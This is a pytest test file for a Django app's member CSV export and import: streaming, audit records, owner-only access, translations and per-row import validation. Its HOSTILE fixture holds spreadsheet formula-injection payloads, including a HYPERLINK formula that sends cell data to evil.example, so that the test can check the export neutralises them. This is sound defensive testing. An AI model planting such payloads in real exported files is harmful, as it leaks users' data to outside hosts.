"""CSV export (streamed, the current filter) and CSV import (checked per row, all or nothing)."""

from __future__ import annotations

import csv
import datetime
import io
import re
from html import unescape
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.utils import timezone
from django_tenants.utils import schema_context

from members import importing as services
from members.consent import phone_hash
from members.demo import members_seed
from members.models import ConsentRecord, ExportRecord, Member
from tests import builders
from tests.console.conftest import client_for
from tests.phones import unique_phone
from tests.signup.test_translations import TRANSLATED_LANGUAGES, po_entries


def _rows(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


def test_the_export_streams_every_member_of_the_current_filter(dana):
    with schema_context(dana.schema_name):
        members_seed(count=3000, start_index=50_000)
        expected = Member.objects.filter(language="fr").count()
    response = client_for(dana, "dmitri").get("/members/export.csv", {"language": "fr"})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert 'attachment; filename="dana-members-' in response["Content-Disposition"]
    chunks = list(response.streaming_content)
    assert len(chunks) == 1 + -(-expected // 500)  # the header, then 500 rows at a time: never built whole
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert len(rows) == expected > 0
    assert {row["language"] for row in rows} == {"fr"}
    assert len({row["phone"] for row in rows}) == expected
    assert connection.schema_name  # the generator left no half-open cursor behind


HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "last_name": "a;=1",
    "email": "x,+1",
    "city": "@SUM(1+1)",
    "place_name": "\t=1",
    "region": "\r=1",
}
SEPARATORS = re.compile(r"[;,\t\r\n]")


def _runnable_parts(cell: str) -> list[str]:
    """The parts of a cell a spreadsheet would run, however it splits the cell: formulas, not phones."""
    parts = [part.lstrip(" ") for part in SEPARATORS.split(cell)]
    return [p for p in parts if p[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"\+[1-9]\d{7,14}", p)]


def test_the_export_neutralises_every_part_of_every_cell_a_spreadsheet_could_run(dana):
    with schema_context(dana.schema_name):
        member = builders.member(**HOSTILE, tags=["vip", "@SUM(1)", "-2+3"])
    [row] = _rows(client_for(dana, "dmitri").get("/members/export.csv"))
    for name, cell in row.items():
        assert _runnable_parts(cell) == [], (name, cell)
    # Quoted, not rewritten: the text is all there after the quotes a spreadsheet hides.
    assert row["first_name"] == "'" + HOSTILE["first_name"]
    assert row["last_name"] == "a;'=1"
    assert row["email"] == "x,'+1"
    assert row["place_name"] == "\t'=1" and row["region"] == "\r'=1"
    assert row["tags"] == "vip;'@SUM(1);'-2+3"
    # Phones stay usable: an E.164 number cannot run anything.
    assert row["phone"] == member.phone


def test_an_export_is_recorded_without_the_search_text_and_shown_to_owners_only(world, olivia, mark, rita):
    with schema_context(world.alice.schema_name):
        builders.member(first_name="Zephyrine", language="fr")
    # The search is submitted as the page's form does (POST); the list's export link carries its id.
    listing = mark.post("/members/", {"q": "Zephyr", "language": "fr", "gender": ""}, follow=True)
    export_link = re.search(r'href="(/members/export\.csv\?[^"]+)"', listing.content.decode()).group(1)
    response = mark.get(unescape(export_link))
    rows = _rows(response)
    assert [row["first_name"] for row in rows] == ["Zephyrine"]
    with schema_context(world.alice.schema_name):
        record = ExportRecord.objects.get()
    assert (record.username, record.kind, record.row_count) == ("mark", "members_csv", 1)
    assert record.filters == {"q": True, "language": "fr"}  # the search was used; its text is not kept
    assert record.created_at > timezone.now() - datetime.timedelta(minutes=1)

    page = olivia.get("/members/exports/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "<h1>Exports of members</h1>" in html
    assert "mark" in html and "a search (its text is not kept)" in html and "Language: Français" in html
    assert "Zephyr" not in html
    assert 'href="/members/exports/"' in olivia.get("/members/").content.decode()

    assert mark.get("/members/exports/").status_code == 403
    assert rita.get("/members/exports/").status_code == 403
    assert 'href="/members/exports/"' not in mark.get("/members/").content.decode()


def test_an_export_cut_short_is_shown_as_not_finished(world, olivia, mark):
    response = mark.get("/members/export.csv")
    next(iter(response.streaming_content))  # the header only: the download stops here
    with schema_context(world.alice.schema_name):
        record = ExportRecord.objects.get()
    assert record.row_count is None
    page = olivia.get("/members/exports/", HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    assert "inachevé" in page and "Tous les membres" in page


@pytest.mark.parametrize("language", TRANSLATED_LANGUAGES)
def test_the_exports_page_has_every_string_translated(language):
    source = (Path(settings.BASE_DIR) / "templates/console/members_exports.html").read_text(encoding="utf-8")
    strings = set(re.findall(r'{% translate "([^"]+)"', source)) | {"a search (its text is not kept)"}
    entries = po_entries(language)
    assert len(strings) >= 10
    assert sorted(text for text in strings if not entries.get((None, text))) == []


def _upload(text: str, name: str = "supporters.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode(), content_type="text/csv")


def test_an_import_adds_members_with_a_consent_record_each(dana):
    a, b = unique_phone(), unique_phone()
    local_b = b.removeprefix("+1")  # written without the country code: the default country applies
    upload = _upload(
        "Phone,first_name,last_name,email,gender,birth_date,language,city,tags\n"
        f"{a},Ana,López,ana@example.org,female,1990-04-25,es,Montréal,volunteer;donor\n"
        f"({local_b[:3]}) {local_b[3:6]}-{local_b[6:]},Omar,,,,,,,\n"
    )
    response = client_for(dana, "dmitri").post(
        "/members/import/",
        {"file": upload, "consent_description": "Signed up at the rally", "default_country": "US"},
    )
    assert response.status_code == 200
    assert "2 members added" in response.content.decode()
    with schema_context(dana.schema_name):
        ana = Member.objects.get(phone=a)
        assert (ana.first_name, ana.gender, ana.language, ana.tags) == (
            "Ana",
            "female",
            "es",
            ["volunteer", "donor"],
        )
        assert ana.place_name == "Montréal" and ana.country == "CA"
        assert Member.objects.filter(phone=b).exists()
        consent = ConsentRecord.objects.get(member=ana)
    assert (consent.kind, consent.source, consent.text) == ("opt_in", "import", "Signed up at the rally")
    assert consent.phone_hash == phone_hash(a)
    dana.refresh_from_db()
    assert dana.member_count == 2


def test_an_import_with_one_bad_row_writes_nothing_and_reports_each_line(dana):
    good, dup = unique_phone(), unique_phone()
    upload = _upload(
        "phone,first_name,birth_date,email,gender\n"
        f"{good},Good,,,\n"
        "12,Short,,,\n"
        f"{dup},Once,,,\n"
        f"{dup},Twice,,,\n"
        f"{unique_phone()},Bad date,25/04/1990,,\n"
        f"{unique_phone()},Bad email,,not-an-email,\n"
        f"{unique_phone()},Bad gender,,,robot\n"
        "+33612345678,French,,,\n"
    )
    response = client_for(dana, "dmitri").post(
        "/members/import/", {"file": upload, "consent_description": "Rally", "default_country": "US"}
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert "Nothing was imported" in page
    for line, text in (
        (3, "12 is not a valid phone number"),
        (5, "duplicate of line 4"),
        (6, "birth_date 25/04/1990"),
        (7, "not-an-email"),
        (8, "gender must be one of"),
        (9, "numbers from FR are not accepted"),
    ):
        assert f"<td>{line}</td><td>{text}" in page, text
    with schema_context(dana.schema_name):
        assert not Member.objects.filter(phone=good).exists()
        assert not ConsentRecord.objects.exists()


def test_an_import_skips_people_who_are_already_members(dana):
    with schema_context(dana.schema_name):
        existing = builders.member(first_name="Kept")
        new = unique_phone()
        report = services.members_import(
            leader=dana,
            upload=_upload(f"phone,first_name\n{existing.phone},Changed\n{new},New\n"),
            consent_description="Rally",
            default_country="US",
            imported_by=None,
        )
        assert report.ok and report.created == 1
        assert report.skipped == [(2, "already a member: kept as is")]
        existing.refresh_from_db()
        assert existing.first_name == "Kept"


def test_an_import_needs_a_consent_description_and_a_phone_column(dana):
    with schema_context(dana.schema_name):
        no_consent = services.members_import(
            leader=dana,
            upload=_upload("phone\n+12025550111\n"),
            consent_description=" ",
            default_country="US",
            imported_by=None,
        )
        no_phone = services.members_import(
            leader=dana,
            upload=_upload("name\nAna\n"),
            consent_description="Rally",
            default_country="US",
            imported_by=None,
        )
        not_text = services.members_import(
            leader=dana,
            upload=_upload("x"),
            consent_description="Rally",
            default_country="US",
            imported_by=None,
        )
    assert "agreed" in no_consent.errors[0][1]
    assert "phone" in no_phone.errors[0][1]
    assert not not_text.ok


def test_an_import_is_capped_in_rows(dana, monkeypatch):
    monkeypatch.setattr(services, "IMPORT_MAX_ROWS", 3)
    rows = "".join(f"{unique_phone()}\n" for _ in range(4))
    with schema_context(dana.schema_name):
        report = services.members_import(
            leader=dana,
            upload=_upload("phone\n" + rows),
            consent_description="Rally",
            default_country="US",
            imported_by=None,
        )
        assert not Member.objects.exists()
    assert "at most 3 rows" in report.errors[0][1]


def test_a_big_import_is_written_in_batches(dana, django_assert_max_num_queries):
    rows = "".join(f"{unique_phone()},Fan{n}\n" for n in range(5000))
    with schema_context(dana.schema_name), django_assert_max_num_queries(40):
        report = services.members_import(
            leader=dana,
            upload=_upload("phone,first_name\n" + rows),
            consent_description="Rally",
            default_country="US",
            imported_by=None,
        )
    assert report.ok and report.created == 5000
